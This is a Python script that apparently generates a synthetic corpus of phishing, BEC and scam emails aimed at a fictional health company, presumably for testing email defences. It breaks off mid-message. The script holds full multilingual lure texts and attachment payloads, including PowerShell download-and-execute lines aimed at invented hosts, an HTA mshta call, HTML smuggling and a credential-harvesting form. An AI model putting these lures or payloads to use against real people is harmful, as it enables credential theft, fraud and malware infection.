# ruff: noqa: E501
"""Phishing and fraud aimed at Nordlys Health AS. One call per message; all domains of
attackers are invented, or reserved names (*.example) for compromised third parties."""

from __future__ import annotations

import base64
import hashlib

from b4_common import ORG, build, iso_bytes, lnk_bytes, page, pdf, qr, zip_encrypted, zip_of


def mid(name: str, domain: str) -> str:
    h = hashlib.sha256(("p" + name).encode()).hexdigest()
    return f"<{h[:20]}@{domain}>"


def ph(name: str, frm: str, subject: str, date: str, domain: str, helo: str, ip: str, text: str, html: str | None = None, **kw: object) -> None:
    build(f"phish/{name}.eml", frm=frm, subject=subject, date=date, msgid=mid(name, kw.pop("mid_domain", domain)), helo=helo, ip=ip,  # type: ignore[arg-type]
          dkim_domain=kw.pop("dk", domain), text=text, html=html, **kw)  # type: ignore[arg-type]


def nordic_brands() -> None:
    ph("01_bankid_fornyelse", "BankID <varsel@bankid-fornyelse.com>", "Ditt BankID utløper 30.11.2026 – forny nå", "Tue, 24 Nov 2026 07:41:12 +0100", "bankid-fornyelse.com", "mail.bankid-fornyelse.com", "45.133.1.22",
       "Hei,\n\nBankID-sertifikatet ditt utløper 30.11.2026. For å unngå at du mister tilgang til nettbank, Altinn og helsenorge må du fornye innen 48 timer.\n\nForny her: https://bankid-fornyelse.pages.dev/no/forny?ref=NO88213\n\nMed vennlig hilsen\nBankID Norge AS\n",
       page("BankID", "#39134c", "Ditt BankID utløper snart", ["Hei,", "BankID-sertifikatet ditt utløper <b>30.11.2026</b>. For å unngå at du mister tilgang til nettbank, Altinn og helsenorge må du fornye innen 48 timer."],
            button=("Forny BankID", "https://bankid-fornyelse.pages.dev/no/forny?ref=NO88213"), footer="BankID Norge AS, Postboks 1429 Vika, 0115 Oslo", lang="no"))
    ph("02_vipps_utbetaling", "Vipps <kundeservice@vipps-utbetaling.net>", "Du har mottatt kr 2 450,00 – bekreft for å motta", "Sat, 21 Nov 2026 19:12:00 +0100", "vipps-utbetaling.net", "vps-1182.vipps-utbetaling.net", "185.225.69.14",
       "Hei!\n\nNoen har sendt deg kr 2 450,00 via Vipps, men betalingen er satt på vent fordi kontoen din ikke er verifisert.\nBekreft med BankID innen 24 timer, ellers returneres beløpet: https://vipps-utbetaling.netlify.app/motta?id=88213\n\nVipps MobilePay\n",
       page("Vipps", "#ff5b24", "Du har penger på vent", ["Noen har sendt deg <b>kr 2 450,00</b>, men betalingen er satt på vent fordi kontoen din ikke er verifisert.", "Bekreft med BankID innen 24 timer, ellers returneres beløpet."],
            button=("Motta pengene", "https://vipps-utbetaling.netlify.app/motta?id=88213"), lang="no"))
    ph("03_mobilepay_refusion", "MobilePay <no-reply@mobilepay-refusion.com>", "Du har en refusion på 1.289,00 kr", "Sun, 22 Nov 2026 10:02:00 +0100", "mobilepay-refusion.com", "mail.mobilepay-refusion.com", "91.92.240.31",
       "Hej,\n\nVi har registreret en dobbelt betaling på din konto. Du har en refusion på 1.289,00 kr.\nFor at modtage refusionen skal du bekræfte dit kort: https://mobilepay-refusion.com/dk/refusion?c=DK44190\n\nVenlig hilsen\nMobilePay Support\n",
       page("MobilePay", "#5a78ff", "Refusion på 1.289,00 kr", ["Vi har registreret en dobbelt betaling på din konto.", "For at modtage refusionen skal du bekræfte dit kort inden for 24 timer."],
            button=("Modtag refusion", "https://mobilepay-refusion.com/dk/refusion?c=DK44190"), lang="da"))
    ph("04_dnb_sikkerhet", "DNB Kundeservice <sikkerhet@dnb-kundesenter.com>", "Viktig: Nettbanken din er midlertidig sperret", "Mon, 23 Nov 2026 06:55:00 +0100", "dnb-kundesenter.com", "srv2.dnb-kundesenter.com", "194.87.31.100",
       "Kjære kunde,\n\nVi har oppdaget uvanlig aktivitet på kontoen din, og nettbanken er midlertidig sperret av sikkerhetshensyn.\nFor å oppheve sperringen må du bekrefte identiteten din med BankID:\nhttps://dnb-kundesenter.com/no/privat/oppheve-sperring?sid=5f2a91\n\nHvis du ikke bekrefter innen 24 timer, vil kortene dine bli deaktivert.\n\nMed vennlig hilsen\nDNB Bank ASA\n",
       page("DNB", "#007272", "Nettbanken din er midlertidig sperret", ["Kjære kunde,", "Vi har oppdaget uvanlig aktivitet på kontoen din, og nettbanken er midlertidig sperret av sikkerhetshensyn.", "Hvis du ikke bekrefter innen 24 timer, vil kortene dine bli deaktivert."],
            button=("Opphev sperring", "https://dnb-kundesenter.com/no/privat/oppheve-sperring?sid=5f2a91"), footer="DNB Bank ASA, Dronning Eufemias gate 30, 0191 Oslo", lang="no"))
    ph("05_nordea_verifiering", "Nordea <info@nordea-kundtjanst.top>", "Verifiera dina uppgifter – nya EU-regler", "Wed, 18 Nov 2026 12:31:00 +0100", "nordea-kundtjanst.top", "mail.nordea-kundtjanst.top", "45.88.97.12",
       "Hej,\n\nEnligt nya EU-regler (PSD3) måste alla kunder verifiera sina uppgifter senast 30 november. Annars begränsas ditt konto.\n\nVerifiera med BankID: https://nordea-kundtjanst.top/se/verifiera\n\nMed vänliga hälsningar\nNordea Kundtjänst\n",
       page("Nordea", "#0000a0", "Verifiera dina uppgifter", ["Enligt nya EU-regler måste alla kunder verifiera sina uppgifter senast 30 november. Annars begränsas ditt konto."],
            button=("Verifiera med BankID", "https://nordea-kundtjanst.top/se/verifiera"), lang="sv"))
    ph("06_postnord_tull", "PostNord <info@postnord-avgift.info>", "Ditt paket väntar – tullavgift 29 kr obetald", "Thu, 19 Nov 2026 08:10:00 +0100", "postnord-avgift.info", "mail.postnord-avgift.info", "185.246.220.71",
       "PostNord: Ditt paket (ID SE8841205) hålls kvar i väntan på betalning av tullavgift 29,00 kr. Betala inom 48 timmar, annars returneras paketet till avsändaren.\nhttps://postnord-avgift.info/se/betala?id=SE8841205\n",
       page("PostNord", "#00a0d6", "Ditt paket väntar", ["Ditt paket (ID SE8841205) hålls kvar i väntan på betalning av tullavgift <b>29,00 kr</b>.", "Betala inom 48 timmar, annars returneras paketet till avsändaren."],
            button=("Betala nu", "https://postnord-avgift.info/se/betala?id=SE8841205"), lang="sv"))
    ph("07_bring_gebyr", "Posten Bring <varsling@bring-sporing.com>", "Sendingen din kunne ikke leveres", "Fri, 20 Nov 2026 15:20:00 +0100", "bring-sporing.com", "bring-sporing.com", "103.151.125.9",
       "Hei,\n\nVi forsøkte å levere pakken din i dag, men adressen var ufullstendig. Oppdater adressen og betal et gebyr på kr 24,00 for ny levering:\nhttps://www.google.com/url?q=https%3A%2F%2Fbring-sporing.com%2Fno%2Flevering&sa=D&usg=AOvVaw1xQ\n\nPosten Bring\n", None)
    ph("08_correos_aduana", "Correos <avisos@correos-entregas.top>", "Su paquete está retenido en aduana", "Mon, 16 Nov 2026 11:11:00 +0100", "correos-entregas.top", "mail.correos-entregas.top", "185.234.216.40",
       "Estimado cliente:\n\nSu paquete con número de seguimiento PQ4B7C0799812340128001X está retenido en la aduana de Madrid. Para su entrega debe abonar 1,99 EUR en concepto de gastos de gestión.\n\nPagar ahora: https://correos-entregas.top/es/pago?n=PQ4B7C0799812340128001X\n\nSi no se abona en 48 horas, el paquete será devuelto al remitente.\n\nCorreos\n",
       page("Correos", "#ffcd00", "Su paquete está retenido en aduana", ["Para su entrega debe abonar <b>1,99 EUR</b> en concepto de gastos de gestión.", "Si no se abona en 48 horas, el paquete será devuelto al remitente."],
            button=("Pagar ahora", "https://correos-entregas.top/es/pago?n=PQ4B7C0799812340128001X"), lang="es"))
    ph("09_altinn_skatteoppgjor", "Skatteetaten via Altinn <post@altinn-skatteoppgjor.com>", "Skatteoppgjøret: du har til gode kr 6 812", "Tue, 17 Nov 2026 09:05:00 +0100", "altinn-skatteoppgjor.com", "mail.altinn-skatteoppgjor.com", "80.66.88.201",
       "Hei,\n\nEtter ny beregning av skatteoppgjøret for 2025 har du kr 6 812 til gode. For å få utbetalt beløpet må du bekrefte kontonummeret ditt innen 26.11.2026.\n\nLogg inn med BankID: https://altinn-skatteoppgjor.com/ui/innlogging?goto=utbetaling\n\nSkatteetaten\n", None)
    ph("10_skatteverket_aterbetalning", "Skatteverket <aterbetalning@skatteverket-se.com>", "Skatteåterbäring 4 318 kr – bekräfta ditt konto", "Thu, 19 Nov 2026 13:40:00 +0100", "skatteverket-se.com", "mail.skatteverket-se.com", "45.141.84.10",
       "Hej,\n\nDu har en skatteåterbäring på 4 318 kr som inte kunde betalas ut. Logga in med BankID och bekräfta ditt kontonummer:\nhttps://skatteverket-se.com/privat/aterbetalning\n\nSkatteverket\n",
       page("Skatteverket", "#2f2a95", "Skatteåterbäring 4 318 kr", ["Du har en skatteåterbäring på 4 318 kr som inte kunde betalas ut.", "Logga in med BankID och bekräfta ditt kontonummer inom 5 dagar."],
            button=("Logga in med BankID", "https://skatteverket-se.com/privat/aterbetalning"), lang="sv"))
    ph("11_agencia_tributaria_devolucion", "Agencia Tributaria <notificaciones@agenciatributaria-devolucion.com>", "Notificación: devolución pendiente de 742,18 €", "Wed, 11 Nov 2026 10:00:00 +0100", "agenciatributaria-devolucion.com", "mail.agenciatributaria-devolucion.com", "193.42.33.50",
       "Estimado contribuyente:\n\nTras revisar su declaración, le corresponde una devolución de 742,18 €. Para recibirla debe confirmar sus datos bancarios a través del siguiente enlace:\nhttps://agenciatributaria-devolucion.com/AEAT/Sede/devolucion?nif=confirmar\n\nAgencia Estatal de Administración Tributaria\n",
       page("Agencia Tributaria", "#a5161a", "Devolución pendiente", ["Tras revisar su declaración, le corresponde una devolución de <b>742,18 €</b>.", "Para recibirla debe confirmar sus datos bancarios."],
            button=("Confirmar datos", "https://agenciatributaria-devolucion.com/AEAT/Sede/devolucion?nif=confirmar"), lang="es"))
    ph("12_dhl_aduanas_es", "DHL Express <aduanas@dhl-aduana-es.com>", "DHL: Pago de aranceles pendiente para envío 4418827763", "Fri, 13 Nov 2026 09:33:00 +0100", "dhl-aduana-es.com", "mail.dhl-aduana-es.com", "91.215.85.10",
       "Estimado cliente,\n\nSu envío 4418827763 procedente de Shenzhen (CN) requiere el pago de aranceles e IVA de importación por importe de 3,45 EUR.\nPague en línea para programar la entrega: https://dhl-aduana-es.weebly.com/pago\n\nDHL Express Spain\n", None)


def microsoft_and_saas() -> None:
    aitm = pdf(["Nordlys Health AS - Secure Document", "", "You have received an encrypted remittance advice.", "Document: Remittance_Advice_NOV2026.pdf (2 pages)", "",
                "Click here to view the secure document with your Microsoft 365 account", "", "This link expires in 24 hours."],
               link=("https://login.nordlys-docs.com/YzJ4c2IzZHBibWM9?u=aW5ncmlkLnNvbGJlcmc=", 5), title="Secure Document", producer="Skia/PDF m120")
    ph("13_m365_aitm_pdf", "Accounts Receivable <ar@radiologiklinikken.example>", "Remittance advice - payment NOK 412 880", "Mon, 23 Nov 2026 13:02:00 +0100", "radiologiklinikken.example", "mail.radiologiklinikken.example", "198.51.100.120",
       "Hello Ingrid,\n\nPlease find attached the remittance advice for the payment made today.\n\nBest regards\nAccounts Receivable\n", None,
       attachments=[(aitm, "application", "pdf", "Remittance_Advice_NOV2026.pdf")])
    smug = ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>Docusign</title></head><body style='font-family:Arial'>"
            "<div style='text-align:center;margin-top:80px'><h2>Docusign</h2><p>Please sign in to view the document</p>"
            "<form action='https://docu-sign-envelope.com/api/sess' method='POST'><input type='email' name='e' value='ingrid.solberg@nordlys-health.example'><br>"
            "<input type='password' name='p' placeholder='Password'><br><button>View Document</button></form></div></body></html>")
    ph("14_docusign_html", "Docusign <dse@docusign-envelope.net>", "Please DocuSign: Nordlys_Health_Settlement_Agreement.pdf", "Tue, 24 Nov 2026 16:20:00 +0100", "docusign-envelope.net", "mail.docusign-envelope.net", "179.43.176.10",
       "Erik Haugland sent you a document to review and sign.\n\nPlease open the attached secure document to review.\n\nDo Not Share This Email\n",
       page("Docusign", "#1e1e1e", "Erik Haugland sent you a document to review and sign.", ["Please open the attached secure document to review."]),
       attachments=[(smug.encode(), "text", "html", "Settlement_Agreement_Docusign.html")])
    q = qr("https://nordlys-hr-portal.com/benefits2027?e=aW5ncmlk")
    qpdf = pdf(["Nordlys Health AS - HR", "2027 Benefits enrollment", "", "Open enrollment closes 30 November 2026.", "Scan the QR code with your phone camera to review and confirm", "your 2027 benefit selections. Sign in with your Microsoft 365 account."],
               image=q, title="Benefits 2027", producer="Microsoft® Word for Microsoft 365")
    ph("15_qr_pdf_benefits", "HR Benefits <hr-benefits@nordlys-hr-portal.com>", "ACTION REQUIRED: 2027 Benefits Enrollment - Ingrid Solberg", "Wed, 25 Nov 2026 08:02:00 +0100", "nordlys-hr-portal.com", "mail.nordlys-hr-portal.com", "103.75.201.4",
       "Hi Ingrid,\n\nPlease review the attached document and complete your 2027 benefits enrollment before 30 November.\n\nHR Department\n", None,
       attachments=[(qpdf, "application", "pdf", "Benefits_Enrollment_2027_Ingrid.Solberg.pdf")])
    ph("16_fake_it_mfa", "IT Service Desk <servicedesk@nordlys-hea1th.com>", "Ny MFA-app fra 1. desember - registrer deg nå", "Thu, 26 Nov 2026 08:15:00 +0100", "nordlys-hea1th.com", "mail.nordlys-hea1th.com", "45.148.10.22",
       "Hei,\n\nDu har ennå ikke registrert den nye MFA-appen. Kontoen din blir låst 1. desember hvis registreringen ikke er fullført.\n\nRegistrer deg her: https://nordlys-hea1th.com/it/mfa-2027/enroll?user=ingrid.solberg\n\nHilsen\nIT Service Desk, Nordlys Health\n",
       page("Nordlys Health IT", "#1d3557", "Registrer deg nå", ["Du har ennå ikke registrert den nye MFA-appen. Kontoen din blir <b>låst 1. desember</b> hvis registreringen ikke er fullført."],
            button=("Registrer MFA", "https://nordlys-hea1th.com/it/mfa-2027/enroll?user=ingrid.solberg"), footer="Nordlys Health AS, IT Service Desk", lang="no"))
    consent = ("https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=5e1d7c3a-9b84-4f2e-a1c0-77d3e2b9f810&response_type=code"
               "&redirect_uri=https%3A%2F%2Finvoice-viewer-app.azurewebsites.net%2Fauth%2Fcallback&response_mode=query"
               "&scope=offline_access%20Mail.ReadWrite%20Mail.Send%20Files.ReadWrite.All%20User.Read&state=88213")
    ph("17_oauth_consent", "Atea Invoicing <invoicing@atea-einvoice.com>", "Faktura 9187443 tilgjengelig i Atea eInvoice", "Mon, 23 Nov 2026 10:45:00 +0100", "atea-einvoice.com", "mail.atea-einvoice.com", "185.117.90.18",
       f"Hei,\n\nFaktura 9187443 er tilgjengelig i Atea eInvoice. Logg inn med Microsoft-kontoen din for å se fakturaen:\n{consent}\n\nAtea AS\n",
       page("Atea eInvoice", "#00857c", "Faktura 9187443", ["Fakturaen er tilgjengelig. Logg inn med Microsoft-kontoen din for å se fakturaen."], button=("Logg inn med Microsoft", consent), lang="no"))
    ph("18_device_code", "Erik Haugland <erik.haugland@nordlys-health.example>", "Teams meeting: Board pack review (join with code)", "Wed, 25 Nov 2026 18:44:00 +0100", "outlook.com", "vmi2217781.contaboserver.net", "185.215.164.10",
       "Hi Ingrid,\n\nI've set up a quick call to go through the board pack figures before tomorrow. Our Teams is acting up from the hotel, so please join through the Microsoft device page:\n\n1. Go to https://microsoft.com/devicelogin\n2. Enter the code: GH7K2-QXP9M\n3. Sign in with your work account\n\nThe code expires in 15 minutes.\n\nErik\n", None,
       extra=[("Reply-To", "Erik Haugland <erik.haugland.nordlys@outlook.com>")], mid_domain="vmi2217781.contaboserver.net", dk=None)
    ph("19_teams_lookalike", "Microsoft Teams <noreply@teams-notifications.net>", "You have 3 missed messages from Maria Lindqvist", "Tue, 24 Nov 2026 11:03:00 +0100", "teams-notifications.net", "mail.teams-notifications.net", "89.38.98.44",
       "Maria Lindqvist sent you messages in Teams\n\n\"Ingrid, urgent - the auditors need the vendor list today, see the file I shared\"\n\nOpen in Teams: https://teams-notifications.net/l/chat/19:meeting_Nzg0?tenant=nordlys-health\n",
       page("Microsoft Teams", "#464775", "You have 3 missed messages", ["<b>Maria Lindqvist</b>: \"Ingrid, urgent - the auditors need the vendor list today, see the file I shared\""],
            button=("Open in Teams", "https://teams-notifications.net/l/chat/19:meeting_Nzg0?tenant=nordlys-health"), footer="Microsoft Corporation, One Microsoft Way, Redmond, WA 98052"))
    ph("20_slack_lookalike", "Slack <notification@slack-workspace-alerts.com>", "[Slack] Erik Haugland shared a file with you: Q4_bonus_allocation.xlsx", "Thu, 26 Nov 2026 14:22:00 +0100", "slack-workspace-alerts.com", "mail.slack-workspace-alerts.com", "185.196.8.71",
       "Erik Haugland shared a file in Nordlys Health\n\nQ4_bonus_allocation.xlsx\n\nView file: https://nordlys-health-slack.glitch.me/files/F06Q4BONUS\n", None)
    svg = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"200\"><text x=\"20\" y=\"40\">Loading voicemail...</text>"
           "<script type=\"text/javascript\"><![CDATA[var e='aW5ncmlkLnNvbGJlcmdAbm9yZGx5cy1oZWFsdGguZXhhbXBsZQ==';"
           "window.location.href='https://vm-playback.cfd/m/'+e;]]></script></svg>")
    ph("21_voicemail_svg", "Voice Mail <voicemail@nordlys-health.example>", "🔊 New voicemail from +47 9** ** 412 (0:47)", "Fri, 27 Nov 2026 09:12:00 +0100", "vm-notify-mail.com", "mail.vm-notify-mail.com", "194.26.192.14",
       "You have received a new voicemail.\n\nCaller: +47 9** ** 412\nDuration: 0:47\n\nPlay the attached message.\n", None,
       attachments=[(svg.encode(), "image", "svg+xml", "VM_Play_0047.svg")])
    blob = base64.b64encode(b"PK\x03\x04" + hashlib.sha256(b"payload").digest() * 40).decode()
    smuggle = ("<html><head><title>OneDrive</title></head><body><p>Preparing your document...</p><script>"
               f"var d='{blob}';var b=atob(d);var a=new Uint8Array(b.length);for(var i=0;i<b.length;i++){{a[i]=b.charCodeAt(i);}}"
               "var f=new Blob([a],{type:'application/octet-stream'});var u=window.URL.createObjectURL(f);var l=document.createElement('a');"
               "l.href=u;l.download='Invoice_NH-20261124.zip';document.body.appendChild(l);l.click();</script></body></html>")
    ph("22_html_smuggling", "Billing <billing@keyvault-solutions.example>", "Invoice NH-20261124 (past due)", "Tue, 24 Nov 2026 15:01:00 +0100", "keyvault-solutions.example", "mail.keyvault-solutions.example", "198.51.100.150",
       "Hello,\n\nAttached is the invoice NH-20261124 which is now past due. Open the attached file in your browser to download.\n\nRegards\nBilling Dept\n", None,
       attachments=[(smuggle.encode(), "text", "html", "Invoice_NH-20261124.html")])


def bec() -> None:
    ph("23_ceo_gift_cards", "Erik Haugland <erik.haugland.ceo@gmail.com>", "Quick task", "Fri, 27 Nov 2026 10:02:00 +0100", "gmail.com", "mail-sor-f41.google.com", "209.85.220.41",
       "Hi Ingrid,\n\nAre you at your desk? I need you to handle something for me discreetly. I want to surprise some of the team with gift cards for their work this year. Can you buy 10 Apple gift cards of $200 each? Scratch the back and send me pictures of the codes. I'm in meetings all day so email only.\n\nThanks\nErik\n\nSent from my iPhone\n", None, mid_domain="mail.gmail.com")
    ph("24_ceo_wire", "Erik Haugland <e.haugland@proton.me>", "Konfidensielt - oppkjøp", "Thu, 26 Nov 2026 16:48:00 +0100", "proton.me", "mail-4317.proton.ch", "185.70.43.17",
       "Ingrid,\n\nVi er i sluttfasen av et konfidensielt oppkjøp i Spania. Advokaten vår, Javier Molina, vil kontakte deg om en forskuddsbetaling på EUR 186 400 som må gå i dag. Ikke diskuter dette med noen andre før det er offentliggjort, heller ikke Maria.\n\nSvar meg her når du er klar, jeg sitter i møter.\n\nErik\n", None)
    ph("25_cfo_iban_update", "Maria Lindqvist <maria.lindqvist@nordlys-health.example>", "Vendor bank details update - MediSupply", "Wed, 25 Nov 2026 11:31:00 +0100", "nordlys-healths.com", "mail.nordlys-healths.com", "45.95.169.10",
       "Hi Ingrid,\n\nMediSupply Nordic have moved their NOK account. Please update the vendor master before the payment run on Friday:\n\nBank: Revolut Bank UAB\nIBAN: LT12 3250 0123 4567 8901\nBIC: REVOLT21\n\nI've already confirmed with Karin Holm, no need to call them. Let me know once done.\n\nThanks\nMaria\n\nMaria Lindqvist\nCFO | Nordlys Health AS\n", None,
       extra=[("Reply-To", "Maria Lindqvist <maria.lindqvist@nordlys-healths.com>")])
    inv = pdf(["MediSupply Nordic AB", "Box 1204, 164 28 Kista, Sweden", "", "INVOICE 55187", "Date: 20 November 2026   Due: 30 November 2026", "Customer: Nordlys Health AS",
               "", "Wall brackets WB-200 x 60          NOK 29 400,00", "Installation kits IK-4 x 60         NOK 18 600,00", "VAT 25%                             NOK 12 000,00", "TOTAL                               NOK 60 000,00", "",
               "NEW BANK DETAILS: IBAN GB29 MIDL 4005 1512 3456 78  BIC MIDLGB22"], title="Invoice 55187")
    ph("26_supplier_lookalike_invoice", "Jonas Eriksson <jonas.eriksson@medisupply-nordlc.com>", "RE: Invoice 55120 - quantity discrepancy", "Fri, 20 Nov 2026 09:12:00 +0100", "medisupply-nordlc.com", "mail.medisupply-nordlc.com", "103.97.128.23",
       "Hi Ingrid,\n\nFollowing up on our conversation, please find attached the corrected invoice 55187. Note that due to an ongoing audit our usual account is temporarily unavailable, please use the bank details on the new invoice. Payment is due 30 November.\n\nBest regards\nJonas Eriksson\nKey Account Manager, MediSupply Nordic AB\n", None,
       attachments=[(inv, "application", "pdf", "Invoice_55187.pdf")],
       extra=[("In-Reply-To", "<AM9PR02MB7214A1B2C3D4@AM9PR02MB7214.eurprd02.prod.outlook.com>")])
    ph("27_w2_request_austin", "Erik Haugland <erik.haugland@nordlys-health.example>", "W-2s", "Mon, 23 Nov 2026 08:05:00 -0600", "nordlys-hlth.com", "mail.nordlys-hlth.com", "45.61.136.12",
       "Hi,\n\nI need the 2026 W-2s (PDF) and the current payroll summary for all Austin staff for a review with our accountants today. Please send them to me as soon as possible.\n\nThanks,\nErik\n", None,
       to=f"Payroll Austin <payroll-austin@{ORG}>", extra=[("Reply-To", "erik.haugland@nordlys-hlth.com")])
    ph("28_reply_chain_hijack", "Pilar Navarro <pilar.navarro@hospitalsanmarcos.example>", "RE: Contrato de servicios Nordlys Health 2027", "Tue, 24 Nov 2026 17:02:00 +0100", "hospitalsanmarcos.example", "mail.hospitalsanmarcos.example", "198.51.100.40",
       "Hola Ingrid,\n\nPerdona la demora. Te comparto la versión final del contrato con los anexos firmados por dirección. Por favor revísalo hoy si puedes:\n\nhttps://hospitalsanmarcos-my.sharepoint-docs.com/:b:/g/personal/pilar_navarro/EqZ7kPdf?e=Contrato2027\n\nUn saludo,\nPilar\n\n> El 19 nov 2026, a las 13:04, Ingrid Solberg <ingrid.solberg@nordlys-health.example> escribió:\n> Hola Pilar, gracias. Revisamos el contrato y te confirmo esta semana.\n> Ingrid\n", None,
       extra=[("In-Reply-To", "<CAHx8zP1q2r3s4t5u6v7w8x9y0@mail.gmail.com>"), ("References", "<CAHx8zP1q2r3s4t5u6v7w8x9y0@mail.gmail.com>")])


def attachments_and_scams() -> None:
    ph("29_invoice_img", "Atea Faktura <faktura@atea-no.net>", "Faktura 9190012 fra Atea AS", "Tue, 24 Nov 2026 09:02:00 +0100", "atea-no.net", "mail.atea-no.net", "45.9.148.7",
       "Hei,\n\nVedlagt følger faktura 9190012. Vennligst åpne vedlegget for å se fakturaen.\n\nMed vennlig hilsen\nAtea AS\n", None,
       attachments=[(iso_bytes("FAKTURA_9190012", "Faktura_9190012.pdf.exe"), "application", "octet-stream", "Faktura_9190012.img")])
    js = b"var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -ep bypass -c \"iwr https://cdn-invoicestore.top/a.ps1 | iex\"',0);"
    ph("30_zip_js_password", "Contabilidad <contabilidad@suministros-levante.example>", "Factura pendiente 2026-0941 (contraseña: 4471)", "Wed, 25 Nov 2026 10:31:00 +0100", "suministros-levante.example", "mail.suministros-levante.example", "198.51.100.170",
       "Buenos días,\n\nAdjuntamos la factura pendiente 2026-0941. Por motivos de seguridad el archivo está protegido.\nContraseña: 4471\n\nSaludos,\nDepartamento de Contabilidad\n", None,
       attachments=[(zip_encrypted([("Factura_2026-0941.js", js)], "4471"), "application", "zip", "Factura_2026-0941.zip")])
    lnk = lnk_bytes("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden -c \"iwr https://files-nordiccloud.top/p.ps1|iex\"")
    ph("31_lnk_attachment", "Bring Faktura <faktura@bring-faktura.com>", "Faktura for frakt november", "Thu, 26 Nov 2026 07:48:00 +0100", "bring-faktura.com", "mail.bring-faktura.com", "194.180.48.20",
       "Hei,\n\nVedlagt ligger fakturaen for frakt i november. Dokumentet åpnes i Adobe Reader.\n\nHilsen\nBring Kundeservice\n", None,
       attachments=[(zip_of([("Faktura_november.pdf.lnk", lnk)]), "application", "zip", "Faktura_november.zip")])
    hta = b"<html><head><HTA:APPLICATION ID='x' WINDOWSTATE='minimize'><script language='VBScript'>CreateObject(\"WScript.Shell\").Run \"mshta https://update-checker.top/s\",0:window.close</script></head></html>"
    ph("32_zip_hta_password", "Payroll Services <payroll@adp-paystatement.com>", "Your pay statement adjustment (password: ADP2026)", "Fri, 27 Nov 2026 08:30:00 -0600", "adp-paystatement.com", "mail.adp-paystatement.com", "45.88.186.3",
       "Your November pay statement has been adjusted. Open the attached secure archive with the password ADP2026 to review the changes.\n\nADP Payroll Services\n", None,
       to=f"Payroll Austin <payroll-austin@{ORG}>", attachments=[(zip_encrypted([("PayStatement_Adjustment.hta", hta)], "ADP2026"), "application", "zip", "PayStatement_Nov2026.zip")])
    cb = pdf(["PayPal", "Invoice INV-88213-NO", "", "Thank you for your purchase.", "Item: Norton 360 Deluxe - 5 devices (3 years)", "Amount: USD 499.99", "Payment method: PayPal balance",
              "", "If you did not authorize this transaction, call PayPal Billing Support:", "+1 (888) 412-5503", "Refunds are only processed by phone within 24 hours."], title="Invoice")
    ph("33_callback_paypal", "PayPal Billing <paypal.billing.notice24@gmail.com>", "You've got an invoice from Norton Billing Dept (USD 499.99)", "Sat, 21 Nov 2026 03:12:00 +0000", "gmail.com", "mail-sor-f54.google.com", "209.85.220.54",
       "Norton Billing Dept sent you an invoice for USD 499.99.\n\nNote from seller: Your Norton 360 subscription has been renewed. If you did not make this purchase call +1 (888) 412-5503 to cancel and receive a refund.\n\nSee attached invoice.\n", None,
       attachments=[(cb, "application", "pdf", "INV-88213-NO.pdf")], extra=[("Reply-To", "nortonbilling.dept22@gmail.com")], mid_domain="mail.gmail.com")
    ph("34_callback_norton_text", "Norton LifeLock <nortonsupport.renewal@outlook.com>", "Order confirmation #NLT-0049213", "Sun, 22 Nov 2026 21:40:00 +0000", "outlook.com", "mail-db8eur05.outbound.protection.outlook.com", "40.92.68.20",
       "Dear Customer,\n\nThank you for renewing Norton 360 Total Protection.\nOrder ID: NLT-0049213\nAmount charged: $389.99\nPeriod: 2 years\n\nThe amount will be debited from your account within 24 hours. If you wish to cancel and get a refund, contact our helpline at +1 (844) 903-2217.\n\nRegards\nNorton Billing Team\n", None,
       mid_domain="DB8PR05MB9911.eurprd05.prod.outlook.com", dk=None)
    ph("35_open_redirect", "Microsoft 365 <no-reply@m365-storage-alerts.com>", "Mailbox storage 99% full – messages will be rejected", "Mon, 23 Nov 2026 06:12:00 +0100", "m365-storage-alerts.com", "mail.m365-storage-alerts.com", "185.181.60.12",
       "Your mailbox ingrid.solberg@nordlys-health.example is almost full (49.5 GB of 50 GB). Incoming messages will be rejected after 24 hours.\n\nIncrease storage at no cost: https://adclick.g.doubleclick.net/pcs/click?xai=AKAOjsu3&sig=Cg0ArKJSzF&adurl=https://m365-quota.com/upgrade?u=ingrid.solberg\n",
       page("Microsoft 365", "#0078d4", "Mailbox storage 99% full", ["Your mailbox is almost full (49.5 GB of 50 GB). Incoming messages will be rejected after 24 hours."],
            button=("Increase storage", "https://adclick.g.doubleclick.net/pcs/click?xai=AKAOjsu3&sig=Cg0ArKJSzF&adurl=https://m365-quota.com/upgrade?u=ingrid.solberg")))
    ph("36_sharepoint_google_sites", "Lars Bakke via SharePoint <no-reply@sharepointonline-mail.com>", "Lars Bakke shared \"Leverandørliste 2027.xlsx\" with you", "Wed, 25 Nov 2026 13:14:00 +0100", "sharepointonline-mail.com", "mail.sharepointonline-mail.com", "91.132.92.15",
       "Lars Bakke shared a file with you\n\nLeverandørliste 2027.xlsx\n\nOpen: https://sites.google.com/view/nordlys-sharepoint-docs/leverandorliste\n\nMicrosoft respects your privacy.\n",
       page("SharePoint", "#036c70", "Lars Bakke shared a file with you", ["Leverandørliste 2027.xlsx"], button=("Open", "https://sites.google.com/view/nordlys-sharepoint-docs/leverandorliste"),
            footer="Microsoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052"))
    ph("37_crypto_lure", "Nordic Crypto Desk <desk@nordic-bitinvest.io>", "Ingrid, din konto har 0,2 BTC som venter", "Sat, 21 Nov 2026 18:00:00 +0100", "nordic-bitinvest.io", "mail.nordic-bitinvest.io", "194.36.191.10",
       "Hei Ingrid,\n\nKontoen din på Nordic BitInvest har en ubehandlet saldo på 0,2 BTC (ca. kr 190 000). Saldoen utløper om 48 timer dersom du ikke tar ut midlene.\n\nFor uttak kreves et verifiseringsgebyr på 0,004 BTC til lommebok bc1q9h5yjqka3mz7f3z8v8lq5u3j2j0k7s2w4x6c9d\n\nLogg inn: https://nordic-bitinvest.wixsite.com/uttak\n\nNordic BitInvest Support\n", None)
    ph("38_ups_aduanas_es", "UPS <notificaciones@ups-es-entregas.com>", "UPS: su paquete 1Z8R7A940412345678 está retenido", "Sat, 14 Nov 2026 12:44:00 +0100", "ups-es-entregas.com", "mail.ups-es-entregas.com", "45.132.227.10",
